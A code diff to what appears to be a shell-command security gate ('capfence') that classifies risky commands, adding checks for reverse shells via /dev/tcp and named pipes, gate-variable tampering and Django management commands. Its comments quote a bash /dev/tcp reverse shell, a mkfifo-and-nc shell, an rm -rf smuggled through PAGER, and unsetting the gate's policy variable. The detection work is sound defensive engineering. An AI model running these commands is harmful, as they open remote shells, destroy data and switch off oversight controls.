@@ -49,6 +49,14 @@ def _loads_code(name: str, value: Field) -> bool:
                for word in value.value.split() for option in options)
 
 
+def capfence_variables(call: Call, names) -> None:
+    """Any way of setting, exporting or unsetting capfence's own variables (`unset CAPFENCE_POLICY`,
+    `read CAPFENCE_POLICY`, `printf -v CAPFENCE_AUDIT ...`) changes how the gate behaves for later commands."""
+    for name in names:
+        if name.startswith("CAPFENCE_"):
+            call.emit(("capfence.admin",), note=f"{name} changes capfence's own configuration")
+
+
 def dangerous_assignments(call: Call, assignments: list[tuple[str, Field]]) -> None:
     """`PAGER='sh -c "rm -rf /"' git log`: a variable that another program runs as a command."""
     for name, value in assignments:
@@ -140,6 +148,8 @@ def shell(call: Call) -> Outcome:
             path = paths.normalise(script_path.value, call.cwd)
             if path in call.state.shared.downloaded:
                 call.emit(("net.exec",), note=f"{shell_name} runs {path}, downloaded earlier in this script")
+            elif path in call.state.shared.fifos:
+                call.dynamic(f"{shell_name} runs what another process writes into the named pipe {path}")
             elif path in call.state.shared.files:
                 content = call.state.shared.files[path]
                 if content is None:
@@ -153,6 +163,11 @@ def shell(call: Call) -> Outcome:
         elif script_path.value.startswith("<(") or not script_path.known:
             _process_substitution_script(call, script_path, shell_name)
         return call.outcome(action)
+    network = [r.target for info in call.infos for r in info.redirects
+               if r.target.startswith(("/dev/tcp/", "/dev/udp/"))]
+    if network:
+        # `bash -i >& /dev/tcp/host/4444 0>&1`: a shell whose input and output are a network connection.
+        return call.outcome(call.emit(("shell.exec", "net.exec"), note=f"{shell_name} wired to {network[0]}"))
     if interactive and call.stdin is None:
         return call.outcome(call.emit(("shell.exec",), note=f"interactive {shell_name}"))
     action = call.emit(("shell.exec",), note=f"{shell_name} reads commands from standard input")
@@ -200,6 +215,10 @@ def run_stdin_as(call: Call, interpreter: str) -> None:
     if any(c in stdin.capabilities for c in _DECODERS):
         call.dynamic(f"decoded data is piped into {interpreter}")
         return
+    if stdin.kind == "file" and stdin.path in call.state.shared.fifos:
+        # `mkfifo f; sh < f | nc host 4444 > f`: whatever another process writes into the pipe gets run.
+        call.dynamic(f"{interpreter} runs what another process writes into the named pipe {stdin.path}")
+        return
     if stdin.kind == "file":
         # `bash < script.sh` runs a file, like `bash script.sh`.
         call.emit(("shell.exec" if language == "shell" else "code.exec",),
@@ -229,7 +248,7 @@ def run_file_content(call: Call, content: str, path: str, args: list[Field]) -> 
 _LANGUAGES = {"python": "python", "node": "node", "deno": "node", "bun": "node", "perl": "perl", "ruby": "ruby",
               "irb": "ruby", "php": "php", "lua": "lua", "rscript": "r", "r": "r", "osascript": "osascript",
               "awk": "awk", "gawk": "awk", "mawk": "awk", "nawk": "awk", "busybox": "shell", "tclsh": "tcl",
-              "wish": "tcl", "expect": "tcl", "julia": "julia", "pwsh": "powershell", "powershell": "powershell"}
+              "wish": "tcl", "expect": "tcl", "tcl": "tcl", "julia": "julia", "pwsh": "powershell", "powershell": "powershell"}
 
 
 def _language(program: str) -> str:
@@ -259,7 +278,8 @@ def _inline(call: Call, language: str, code: str, label: str) -> None:
         capabilities.append("fs.perm")
         targets.extend(_code_target(call, path, Access.PERM))
     summary = code.strip().replace("\n", "; ")
-    call.emit(tuple(dict.fromkeys(capabilities)), targets, note=f"{label}: {summary[:160]}")
+    call.emit(tuple(dict.fromkeys(capabilities)), targets, note=f"{label}: {summary[:160]}",
+              flags=frozenset(findings.flags))
     for reason in findings.dynamic:
         call.dynamic(f"{label}: {reason}", capabilities=("code.dynamic",))
     for script in findings.scripts:
@@ -360,6 +380,12 @@ def _python_module(call: Call, module: str, args: list[Field]) -> Outcome:
 
 
 def _run_code_file(call: Call, path_field: Field, language: str) -> Outcome:
+    if language == "python" and path_field.known and path_field.value.rsplit("/", 1)[-1] == "manage.py":
+        # `python manage.py flush`: Django's management commands, judged as `./manage.py flush` is.
+        from capfence_sh.parse.classify import framework_command
+
+        rest = call.args[call.args.index(path_field) + 1 :] if path_field in call.args else []
+        return framework_command(call, [a.value for a in rest], path_field)
     action = call.emit(("code.exec",), call.target(path_field, Access.EXEC), note=f"{language} runs {path_field.value}")
     if path_field.known:
         path = paths.normalise(path_field.value, call.cwd)
